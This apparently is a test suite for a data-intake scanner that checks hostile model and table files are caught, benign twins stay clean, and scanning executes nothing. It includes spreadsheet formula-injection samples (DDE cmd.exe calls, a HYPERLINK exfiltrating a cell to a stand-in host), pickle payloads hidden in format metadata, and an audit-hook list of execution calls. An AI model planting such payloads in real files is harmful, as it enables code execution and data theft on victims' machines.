"""Formats that carry code in their metadata (issue 15, part 2): fixtures are real, datagate
catches every hostile one, benign twins stay clean, and scanning runs nothing.

The samples come from fixtures/gen/formats.py; scanning goes through the whole engine
(sniffing, containers, every scanner), as ``datagate scan`` does.
"""

from __future__ import annotations

import importlib.util
import io
import json
import struct
import subprocess
import sys
import textwrap
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from datagate.models import Finding, ScanReport, Severity, Skip
from datagate.scan import scan
from datagate.scan.columnar import COLUMNAR_SCANNER, arrow_schema_metadata, parquet_metadata
from datagate.scan.formulas import FORMULA_SCANNER, judge_cell
from datagate.scan.interface import Blob, ContentKind, ScanContext
from datagate.scan.models import MODEL_SCANNER
from datagate.scan.safetensors import SAFETENSORS_SCANNER
from fixtures.gen.common import Sample
from fixtures.gen.containers import payload_pickle
from fixtures.gen.formats import build, safetensors_bytes

REPO = Path(__file__).resolve().parents[3]


@pytest.fixture(scope="module")
def fx(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, tuple[Sample, ...], ScanReport]:
    root = tmp_path_factory.mktemp("formats")
    samples = tuple(build(root))
    return root, samples, scan(root)


def _by_path(report: ScanReport) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in report.findings:
        out.setdefault(f.path, []).append(f)
    return out


def test_every_hostile_sample_is_caught(fx: tuple[Path, tuple[Sample, ...], ScanReport]) -> None:
    _root, samples, report = fx
    found = _by_path(report)
    hostile = [s for s in samples if s.hostile]
    assert len(hostile) >= 20
    missed = []
    for s in hostile:
        fs = found.get(s.relpath, [])
        worst = max((f.severity for f in fs), default=None, key=lambda v: v.rank)
        prefix_ok = s.rule_prefix is None or any(f.rule.startswith(s.rule_prefix) for f in fs)
        if worst is None or worst < Severity.parse(s.min_severity) or not prefix_ok:
            missed.append((s.name, [(f.rule, f.severity.value) for f in fs]))
    assert missed == []


def test_benign_twins_are_clean(fx: tuple[Path, tuple[Sample, ...], ScanReport]) -> None:
    _root, samples, report = fx
    found = _by_path(report)
    benign = [s for s in samples if not s.hostile]
    assert len(benign) >= 10
    noisy = {
        s.name: [(f.rule, f.severity.value) for f in found[s.relpath]]
        for s in benign
        if s.relpath in found
    }
    assert noisy == {}
    assert not [k for k in report.skipped if k.path.startswith("benign/")]


def _missing(sample: Sample) -> list[str]:
    return [m for m in sample.needs if importlib.util.find_spec(m.split(".")[0]) is None]


def _fire(sample: Sample, root: Path, scratch: Path) -> tuple[str, bool, str]:
    code = f"PATH = {str(sample.path(root))!r}\n{sample.naive_load}\n"
    proc = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
        cwd=scratch,
    )
    assert sample.payload_marker is not None
    return sample.name, sample.payload_marker in proc.stdout, proc.stderr[-400:]


@pytest.mark.slow
def test_hostile_payloads_fire_when_loaded_the_vulnerable_way(
    fx: tuple[Path, tuple[Sample, ...], ScanReport], tmp_path: Path
) -> None:
    root, samples, _report = fx
    runnable = [s for s in samples if s.hostile and s.naive_load and not _missing(s)]
    assert len(runnable) >= 7
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda s: _fire(s, root, tmp_path), runnable))
    assert [(name, err) for name, ok, err in results if not ok] == []


_AUDIT_CHILD = textwrap.dedent(
    """
    import json, os, sys
    from pathlib import Path
    from datagate.scan import scan

    root = Path(sys.argv[1])
    scan(root)  # warm up: lazy imports happen before the hook
    BAD = ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
           "exec", "pickle.find_class", "marshal.loads", "ctypes.dlopen", "pty.spawn")
    seen = []

    def hook(event, args):
        if event in BAD or event.startswith(("os.exec", "os.spawn", "os.posix_spawn")):
            seen.append(event)

    sys.addaudithook(hook)
    report = scan(root)
    during = list(seen)
    os.system("true")  # canary
    print(json.dumps({"during": during, "canary": "os.system" in seen,
                      "findings": len(report.findings), "pyarrow": "pyarrow" in sys.modules}))
    """
)


def test_scanning_the_hostile_formats_runs_nothing(
    fx: tuple[Path, tuple[Sample, ...], ScanReport],
) -> None:
    root, _samples, _report = fx
    proc = subprocess.run(
        [sys.executable, "-c", _AUDIT_CHILD, str(root / "hostile" / "formats")],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=REPO,
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    assert "DGPWNED" not in proc.stdout
    assert result["during"] == []
    assert result["canary"] is True
    assert result["findings"] >= 20
    # Arrow/Parquet metadata is read by datagate's own parsers: pyarrow never sees the files
    assert result["pyarrow"] is False


# ------------------------------------------------------------------------------ formulas


@pytest.mark.parametrize(
    ("value", "severity"),
    [
        ("-3.5", None),
        ("+1e5", None),
        ("--", None),
        ("-(555) 123", None),
        ("plain", None),
        ("=1+2", Severity.MEDIUM),
        ("-hello world", Severity.MEDIUM),
        ("@SUM(A1:A3)", Severity.MEDIUM),
        ("\r=A1", Severity.MEDIUM),
        ("=cmd|' /C calc'!A0", Severity.HIGH),
        ('=HYPERLINK("http://x.example/"&A1)', Severity.HIGH),
        ('=webservice("http://x")', Severity.HIGH),
        ("\t+DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", Severity.HIGH),
    ],
)
def test_judge_cell(value: str, severity: Severity | None) -> None:
    assert judge_cell(value) is severity


def _scan(
    scanner: object, data: bytes, kind: ContentKind, name: str = "x"
) -> list[Finding | Skip | Blob]:
    blob = Blob(f"d/{name}", data, name=name, kind=kind)
    return list(scanner.scan(blob, ScanContext()))  # type: ignore[attr-defined]  # a Scanner


def test_formula_evidence_names_rows_columns_and_headers() -> None:
    data = b"id,comment,score\n1,ok,-3.5\n2,\"=cmd|' /C calc'!A0\",1\n3,=1+1,2\n"
    out = _scan(FORMULA_SCANNER, data, ContentKind.CSV, "x.csv")
    by_rule = {f.rule: f for f in out if isinstance(f, Finding)}
    assert set(by_rule) == {"formula.command", "formula.injection"}
    cmd = by_rule["formula.command"].evidence
    assert cmd["count"] == 1
    assert cmd["cells"][0] | {} == {
        "cell": "B3", "row": 3, "column": 2, "header": "comment", "value": "=cmd|' /C calc'!A0",
    }  # fmt: skip
    assert by_rule["formula.injection"].evidence["cells"][0]["cell"] == "B4"


def test_numbers_only_csv_never_parsed_for_formulas() -> None:
    assert _scan(FORMULA_SCANNER, b"a,b\n-1,-2.5\n+3,4\n", ContentKind.CSV) == []


def test_broken_workbook_is_a_skip_not_a_pass() -> None:
    out = _scan(FORMULA_SCANNER, b"PK\x03\x04" + bytes(40), ContentKind.OFFICE, "x.xlsx")
    assert [type(o).__name__ for o in out] == ["Skip"]


# ------------------------------------------------------------------------------ columnar


def test_truncated_arrow_and_parquet_footers_are_findings(
    fx: tuple[Path, tuple[Sample, ...], ScanReport],
) -> None:
    root, _samples, _report = fx
    arrow = (root / "benign/formats/table.arrow").read_bytes()
    parquet = (root / "benign/formats/table.parquet").read_bytes()
    cut_arrow = arrow[:-20] + arrow[-6:]
    cut_parquet = parquet[:10] + parquet[-8:]
    for data, kind in ((cut_arrow, ContentKind.ARROW), (cut_parquet, ContentKind.PARQUET)):
        rules = [f.rule for f in _scan(COLUMNAR_SCANNER, data, kind) if isinstance(f, Finding)]
        assert rules == ["columnar.malformed"]


def test_own_readers_agree_with_pyarrow(fx: tuple[Path, tuple[Sample, ...], ScanReport]) -> None:
    import pyarrow.parquet as pq

    root, _samples, _report = fx
    path = root / "benign/formats/table.parquet"
    ours = {
        kv.key: kv.value
        for kv in parquet_metadata(path.read_bytes()).entries
        if kv.where == "parquet"
    }
    theirs = {k.decode(): v for k, v in (pq.read_schema(path).metadata or {}).items()}
    assert set(theirs) <= set(ours) | {"ARROW:schema"}
    assert ours["pandas"] == theirs["pandas"] and ours["huggingface"] == theirs["huggingface"]
    entries = arrow_schema_metadata(
        (root / "benign/formats/table.arrows").read_bytes(), stream=True
    )
    assert {kv.key for kv in entries} >= {"pandas", "huggingface"}


def test_parquet_external_column_chunk_is_reported() -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buf = pa.BufferOutputStream()
    pq.write_table(pa.table({"x": [1, 2]}), buf)
    data = bytes(buf.getvalue())
    # rewrite the footer with a file_path on the column chunk via pyarrow's own metadata API
    md = pq.ParquetFile(pa.BufferReader(data)).metadata
    md.set_file_path("../../elsewhere.parquet")
    sink = pa.BufferOutputStream()
    md.write_metadata_file(sink)
    out = _scan(COLUMNAR_SCANNER, bytes(sink.getvalue()), ContentKind.PARQUET)
    rules = [f.rule for f in out if isinstance(f, Finding)]
    assert "columnar.external_column" in rules


# ------------------------------------------------------------------------------ safetensors


def test_safetensors_gap_is_reported_and_its_bytes_scanned() -> None:
    pickle_bytes = payload_pickle("st-gap")
    header = {
        "a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]},
        "b": {
            "dtype": "U8",
            "shape": [4],
            "data_offsets": [4 + len(pickle_bytes), 8 + len(pickle_bytes)],
        },
    }
    data = safetensors_bytes(header, bytes(4) + pickle_bytes + bytes(4))
    out = _scan(SAFETENSORS_SCANNER, data, ContentKind.SAFETENSORS)
    assert [f.rule for f in out if isinstance(f, Finding)] == ["safetensors.layout"]
    children = [b for b in out if isinstance(b, Blob)]
    assert [bytes(c.data) for c in children] == [pickle_bytes]


def test_safetensors_inconsistent_and_unknown_dtype() -> None:
    header = {
        "a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 8]},
        "b": {"dtype": "Q9", "shape": [1], "data_offsets": [8, 9]},
    }
    out = _scan(SAFETENSORS_SCANNER, safetensors_bytes(header, bytes(9)), ContentKind.SAFETENSORS)
    rules = sorted(f.rule for f in out if isinstance(f, Finding))
    assert rules == ["safetensors.inconsistent", "safetensors.malformed"]


# ------------------------------------------------------------------------------ models / HDF5


def test_hdf5_without_h5py_is_a_skip_with_the_install_hint(
    fx: tuple[Path, tuple[Sample, ...], ScanReport], monkeypatch: pytest.MonkeyPatch
) -> None:
    root, _samples, _report = fx
    data = (root / "hostile/formats/keras_h5_lambda_model_config.h5").read_bytes()
    monkeypatch.setitem(sys.modules, "h5py", None)  # import h5py now raises ModuleNotFoundError
    out = _scan(MODEL_SCANNER, data, ContentKind.HDF5, "m.h5")
    assert len(out) == 1 and isinstance(out[0], Skip)
    assert "pip install 'datagate-intake[scan]'" in out[0].reason


def test_matlab_v73_attributes_are_read(tmp_path: Path) -> None:
    import numpy as np

    h5py = pytest.importorskip("h5py")
    p = tmp_path / "m.mat"
    with h5py.File(p, "w", userblock_size=512) as f:
        f["x"] = [1.0]
        f["x"].attrs["MATLAB_class"] = np.void(payload_pickle("mat73"))
    data = bytearray(p.read_bytes())
    data[:128] = b"MATLAB 7.3 MAT-file".ljust(124, b" ") + b"\x00\x02IM"
    d = tmp_path / "d"
    d.mkdir()
    (d / "m.mat").write_bytes(bytes(data))
    report = scan(d)
    assert report.content_types == {"application/x-matlab-data": 1}
    assert any(
        f.rule.startswith("pickle.") and f.member == "/x@MATLAB_class" for f in report.findings
    )


def test_keras_v3_benign_functional_config_is_clean() -> None:
    cfg = {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {
            "activation": {"module": "keras.activations", "class_name": "function", "config": "relu",
                           "registered_name": "function"}}, "registered_name": None}]},
        "registered_name": "Functional",
    }  # fmt: skip
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", json.dumps(cfg))
    assert _scan(MODEL_SCANNER, json.dumps(cfg).encode(), ContentKind.JSON, "config.json") == []


def _iter_members(report: ScanReport) -> Iterator[str]:
    for f in report.findings:
        if f.member:
            yield f.member


def test_savedmodel_protobuf_that_does_not_parse_is_not_a_savedmodel() -> None:
    from datagate.scan.sniff import sniff_full

    good = b"\x08\x01\x12\x02\x0a\x00"
    assert sniff_full(good).kind is ContentKind.TF_SAVEDMODEL
    assert sniff_full(good + struct.pack("<I", 7)).kind is not ContentKind.TF_SAVEDMODEL


# ------------------------------------------------------------------------------ never raise

_FUZZ_KINDS = (
    (COLUMNAR_SCANNER, ContentKind.ARROW),
    (COLUMNAR_SCANNER, ContentKind.ARROW_STREAM),
    (COLUMNAR_SCANNER, ContentKind.PARQUET),
    (COLUMNAR_SCANNER, ContentKind.AVRO),
    (SAFETENSORS_SCANNER, ContentKind.SAFETENSORS),
    (FORMULA_SCANNER, ContentKind.CSV),
    (FORMULA_SCANNER, ContentKind.OFFICE),
    (MODEL_SCANNER, ContentKind.JSON),
    (MODEL_SCANNER, ContentKind.TF_SAVEDMODEL),
)


def _mutations(seed: bytes) -> Iterator[bytes]:
    """Truncations and single-byte flips of a valid sample, spread over the whole file."""
    n = len(seed)
    step = max(1, n // 97)
    for cut in range(0, n, step):
        yield seed[:cut]
        yield seed[:cut] + seed[cut + 1 :]
        flipped = bytearray(seed)
        flipped[cut] ^= 0xFF
        yield bytes(flipped)


@pytest.mark.parametrize(
    ("relpath", "kind"),
    [
        ("benign/formats/table.arrow", ContentKind.ARROW),
        ("benign/formats/table.arrows", ContentKind.ARROW_STREAM),
        ("benign/formats/table.parquet", ContentKind.PARQUET),
        ("benign/formats/model.safetensors", ContentKind.SAFETENSORS),
        ("benign/formats/records.avro", ContentKind.AVRO),
        ("benign/formats/values.xlsx", ContentKind.OFFICE),
        ("benign/formats/savedmodel/saved_model.pb", ContentKind.TF_SAVEDMODEL),
    ],
)
def test_mutated_files_never_crash_a_scanner(
    fx: tuple[Path, tuple[Sample, ...], ScanReport], relpath: str, kind: ContentKind
) -> None:
    root, _samples, _report = fx
    seed = (root / relpath).read_bytes()
    scanner = next(s for s, k in _FUZZ_KINDS if k is kind)
    outcomes = set()
    for data in _mutations(seed):
        for item in _scan(scanner, data, kind):
            assert isinstance(item, (Finding, Skip, Blob))
            outcomes.add(type(item).__name__)
    # malformed variants are reported, never passed silently as if nothing were there
    assert "Finding" in outcomes or "Skip" in outcomes


@pytest.mark.parametrize(
    ("scanner", "kind"), _FUZZ_KINDS, ids=[k.value + "-" + s.name for s, k in _FUZZ_KINDS]
)
def test_random_bytes_never_crash_a_scanner(scanner: object, kind: ContentKind) -> None:
    import random

    rng = random.Random(15)
    for size in (0, 1, 7, 8, 12, 64, 512, 4096):
        for _ in range(8):
            data = bytes(rng.getrandbits(8) for _ in range(size))
            for prefix in (
                b"",
                b"PAR1",
                b"ARROW1\x00\x00",
                b"\xff\xff\xff\xff",
                b"PK\x03\x04",
                b"\x08\x01\x12",
            ):
                for item in _scan(
                    scanner, prefix + data + (b"PAR1" if prefix == b"PAR1" else b""), kind
                ):
                    assert isinstance(item, (Finding, Skip, Blob))


def test_hdf5_helper_timeout_is_a_high_finding_and_the_helper_recovers(
    fx: tuple[Path, tuple[Sample, ...], ScanReport],
) -> None:
    from datagate.models import Severity as S
    from datagate.scan._h5child import _HELPER, read_attributes
    from datagate.scan.interface import Limits

    root, _samples, _report = fx
    data = (root / "hostile/formats/keras_h5_lambda_model_config.h5").read_bytes()
    # a budget no process can meet: the helper is killed and the file is reported, not passed
    tight = ScanContext(limits=Limits(max_seconds_per_file=1e-6))
    out = list(MODEL_SCANNER.scan(Blob("m.h5", data, name="m.h5", kind=ContentKind.HDF5), tight))
    assert [(f.rule, f.severity) for f in out if isinstance(f, Finding)] == [
        ("hdf5.unreadable", S.HIGH)
    ]
    assert _HELPER._proc is None
    # the next file gets a fresh helper and is read in full
    result = read_attributes(data, timeout=120)
    assert result.failure == "" and any(k == "model_config" for _p, k, _v in result.attrs)


def test_hdf5_helper_that_died_is_replaced(
    fx: tuple[Path, tuple[Sample, ...], ScanReport],
) -> None:
    from datagate.scan._h5child import _HELPER, read_attributes

    root, _samples, _report = fx
    data = (root / "benign/formats/measurements.h5").read_bytes()
    assert read_attributes(data, timeout=120).failure == ""
    proc = _HELPER._proc
    assert proc is not None
    proc.kill()
    proc.wait()
    assert read_attributes(data, timeout=120).failure == ""
    assert _HELPER._proc is not proc


def test_a_broken_part_does_not_hide_what_parses(
    fx: tuple[Path, tuple[Sample, ...], ScanReport],
) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    root, _samples, _report = fx
    arrow = bytearray((root / "hostile/formats/arrow_py_extension_type.arrow").read_bytes())
    arrow[8:16] = b"\xff\xff\xff\xff\xff\xff\xff\x7f"  # first message length past the end
    rules = {
        f.rule
        for f in _scan(COLUMNAR_SCANNER, bytes(arrow), ContentKind.ARROW)
        if isinstance(f, Finding)
    }
    assert rules == {"columnar.malformed", "columnar.py_extension_type"}

    table = pa.table({"x": [1]}).replace_schema_metadata(
        {b"pandas": payload_pickle("broken-arrow-schema"), b"ARROW:schema": b"not base64!"}
    )
    buf = pa.BufferOutputStream()
    pq.write_table(table, buf)  # pyarrow keeps a caller's ARROW:schema as given
    out = _scan(COLUMNAR_SCANNER, bytes(buf.getvalue()), ContentKind.PARQUET)
    assert [f.rule for f in out if isinstance(f, Finding)] == ["columnar.malformed"]
    assert [b.member for b in out if isinstance(b, Blob)] == ["parquet[pandas]"]
